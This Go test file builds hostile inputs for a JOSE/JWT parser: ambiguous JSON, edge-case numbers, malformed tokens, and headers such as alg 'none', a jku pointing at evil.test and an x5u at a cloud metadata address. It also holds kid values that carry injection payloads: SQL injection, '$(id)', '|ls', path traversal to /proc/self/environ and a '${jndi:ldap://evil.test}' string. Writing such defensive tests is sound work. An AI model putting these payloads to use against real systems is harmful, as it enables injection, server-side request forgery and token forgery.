package jose_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
)

// hostileObjects are the classes of JSON text that two readers have been known to read in two ways.
func hostileObjects() []string {
	nested := func(n int, before, after string) string {
		return `{"a":` + strings.Repeat(before, n) + "1" + strings.Repeat(after, n) + "}"
	}
	objects := []string{
		nested(7, "[", "]"), nested(8, "[", "]"), nested(7, `{"a":`, "}"), nested(8, `{"a":`, "}"), nested(10_000, "[", "]"),
		`{"alg":"ES256","alg":"none"}`, `{"alg":"ES256","al\u0067":"none"}`, `{"\u0061lg":"ES256","alg":"none"}`,
		`{"sub":"a","sub\u0000":"b"}`, `{"a":{"b":1,"b":1}}`, `{"a":[{"b":1,"\u0062":1}]}`, `{"":1,"":2}`, `{"A":1,"a":2}`,
		"{\"\u00e9\":1,\"e\u0301\":2}", `{"\u00e9":1,"` + "\u00e9" + `":2}`, `{"\ud83d\ude00":1,"` + "\U0001f600" + `":2}`,
		`{"s":"\ud800"}`, `{"s":"\udc00\ud800"}`, `{"s":"\ud83d\ude00"}`, `{"s":"\ud83d\\ude00"}`, "{\"s\":\"\xed\xa0\x80\"}",
		"\ufeff{}", "{}\ufeff", "{\"a\":\"\ufeff\"}", "{}\x00", "\x00{}", `{"a":"\u0000"}`, "{\"a\":\"\x00\"}",
		"{\"a\":\"\xff\"}", "{\"a\xc3\":1}", "{\"a\":\"\xc0\x80\"}", "{\"a\":\"\xf4\x90\x80\x80\"}", "{\"a\":\"\u2028\u2029\"}",
		" \t\r\n{ \"a\" : [ ] } \n", "{\v}", "{\f}", "{\u00a0}", `{"a":1,}`, `{,}`, `{"a":[,]}`, `{"a":1 /**/}`, `{'a':1}`, `{a:1}`,
		`{"a":nul}`, `{"a":Null}`, `{"a":NaN}`, `{"a":-Infinity}`, `{}{}`, `[]`, `null`, `""`, ``,
		`{"a":"` + strings.Repeat(`\"`, 4000) + `"}`, `{"` + strings.Repeat("a", 9000) + `":1}`, `{` + members(90) + `}`,
	}
	for _, n := range hostileNumbers() {
		objects = append(objects, `{"exp":`+n+`}`, `{"a":[`+n+`,`+n+`]}`)
	}
	return objects
}

// hostileNumbers are JSON numbers, and what only some readers take for one.
func hostileNumbers() []string {
	return []string{
		"0", "-0", "-0.0", "0e0", "00", "01", "-01", "+1", "1.", ".5", "-.5", "0x10", "1_000", "1e", "1e+", "1E400", "1e400", "-1e400", "1e-400",
		"1e999", "1e1000", "9007199254740993", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "18446744073709551616",
		strings.Repeat("9", 32), strings.Repeat("9", 33), "0." + strings.Repeat("0", 40) + "1", "1.5", "1e3", "1.7e9", "1700000000.999999999", "١",
	}
}

// hostileHeaders are JOSE headers that move the choice of algorithm or key into the token, or try
// what a kid is put into.
func hostileHeaders() []string {
	headers := []string{
		`{"alg":"ES256","crit":["exp"],"exp":1}`, `{"alg":"ES256","crit":[]}`, `{"alg":"ES256","crit":["b64"],"b64":false}`, `{"alg":"ES256","b64":false}`,
		`{"alg":"ES256","jku":"https://evil.test/"}`, `{"alg":"ES256","jwk":{"kty":"oct","k":"AA"}}`, `{"alg":"ES256","x5c":["AA=="]}`, `{"alg":"ES256","x5u":"http://169.254.169.254/"}`,
		`{"alg":"dir","enc":"A128GCM"}`, `{"alg":"ES256","zip":"DEF"}`, `{"alg":"ES256","cty":"JWT"}`, `{"ALG":"ES256"}`, `{"Alg":"none","alg":"ES256"}`, `{"alg":["ES256"]}`, `{"alg":{}}`, `{"alg":null}`, `{}`,
	}
	for _, alg := range []string{"none", "None", "NONE", "nOnE", "none ", "", "HS256", "HS384", "RS256", "rs256", "Rs256", "RS256\\u0000", "RS256 ", "ES256K", "ES512", "EdDSA", "EDDSA", "Ed25519", "PS256", "RS1", "RSA-OAEP"} {
		headers = append(headers, `{"alg":"`+alg+`"}`)
	}
	for _, typ := range []string{"JWT", "jwt", "at+jwt", "application/at+jwt", "APPLICATION/JWT", "logout+jwt", "dpop+jwt", "JOSE", "JWT\\u0000", "a/b/c", ""} {
		headers = append(headers, `{"alg":"ES256","typ":"`+typ+`"}`)
	}
	for _, kid := range []string{"../../../../dev/null", "/proc/self/environ", "k1' OR '1'='1", "'; DROP TABLE keys;--", "http://evil.test/", "|ls", "$(id)", "%00", "\\u0000", "\\n", "${jndi:ldap://evil.test}", "k1\\u0061", strings.Repeat("k", 512), strings.Repeat("k", 513)} {
		headers = append(headers, `{"alg":"ES256","kid":"`+kid+`"}`)
	}
	return append(headers, `{"alg":"ES256","x":"`+strings.Repeat("x", 7000)+`"}`, `{"alg":"ES256","x":[`+strings.Repeat("[", 50)+strings.Repeat("]", 50)+`]}`)
}

// hostileTokens are tokens of odd shape: base64url that is written in another way, parts too many,
// too few or empty, and every hostile header and payload.
func hostileTokens() []string {
	head, body, sig := part(`{"alg":"ES256"}`), part(`{"a":"b"}`), part(strings.Repeat("s", 64))
	good := head + "." + body + "." + sig
	tokens := []string{
		"", ".", "..", "...", "....", strings.Repeat(".", 8000), good, good + ".", "." + good, good + "." + sig, head + "." + body, head + "." + body + ".", head + ".." + sig, "." + body + "." + sig,
		good + "=", good + "==", head + "=." + body + "." + sig, good + "\n", "\n" + good, " " + good, good + " ", head + "\n." + body + "." + sig, head[:4] + "\r\n" + head[4:] + "." + body + "." + sig,
		strings.NewReplacer("-", "+", "_", "/").Replace(part("{\"alg\":\"ES256\",\"\u00ff\u00fe\":\"???>>>\"}")) + "." + body + "." + sig,
		head + "." + body[:len(body)-1] + "." + sig, head + "." + body + "." + sig[:len(sig)-1] + "B", head + "." + body + ".A", head + "." + body + ".AB", head + "." + body + ".AA\x00",
		"Bearer " + good, good + "," + good, "eyJ\u200bhbGciOiJFUzI1NiJ9." + body + "." + sig, `{"payload":"` + body + `","signatures":[]}`,
	}
	for _, h := range hostileHeaders() {
		tokens = append(tokens, unsigned(h, `{"a":"b"}`))
	}
	for _, o := range hostileObjects() {
		tokens = append(tokens, unsigned(`{"alg":"ES256"}`, o))
		if rest, ok := strings.CutPrefix(o, "{"); ok {
			tokens = append(tokens, unsigned(`{"alg":"ES256",`+rest, `{}`))
		}
	}
	return tokens
}

// canonical writes JSON so that texts that say the same are the same: members sorted, none of them
// dropped, numbers as they were. It reads with encoding/json's scanner, which drops nothing either.
func canonical(t *testing.T, text []byte) string {
	t.Helper()
	d := json.NewDecoder(bytes.NewReader(text))
	d.UseNumber()
	s, err := canonicalNext(d)
	if err != nil {
		t.Fatalf("encoding/json refuses %q: %v", text, err)
	}
	if d.More() {
		t.Fatalf("encoding/json finds more after %q", text)
	}
	return s
}

func canonicalNext(d *json.Decoder) (string, error) {
	token, err := d.Token()
	if err != nil {
		return "", err
	}
	delim, ok := token.(json.Delim)
	if !ok {
		return canonicalScalar(token), nil
	}
	var items []string
	for d.More() {
		item, err := canonicalNext(d)
		if err != nil {
			return "", err
		}
		if delim == '{' {
			v, err := canonicalNext(d)
			if err != nil {
				return "", err
			}
			item += ":" + v
		}
		items = append(items, item)
	}
	if _, err := d.Token(); err != nil {
		return "", err
	}
	return canonicalList(delim == '{', items), nil
}

func canonicalScalar(v any) string {
	if n, ok := v.(json.Number); ok {
		return n.String()
	}
	return fmt.Sprintf("%#v", v)
}

func canonicalList(object bool, items []string) string {
	if object {
		slices.Sort(items)
		return "{" + strings.Join(items, ",") + "}"
	}
	return "[" + strings.Join(items, ",") + "]"
}

// canonicalValue is canonical for what was read here.
func canonicalValue(v any) string {
	var items []string
	switch v := v.(type) {
	case map[string]any:
		for _, name := range slices.Collect(maps.Keys(v)) {
			items = append(items, canonicalScalar(name)+":"+canonicalValue(v[name]))
		}
		return canonicalList(true, items)
	case []any:
		for _, e := range v {
			items = append(items, canonicalValue(e))
		}
		return canonicalList(false, items)
	}
	return canonicalScalar(v)
}
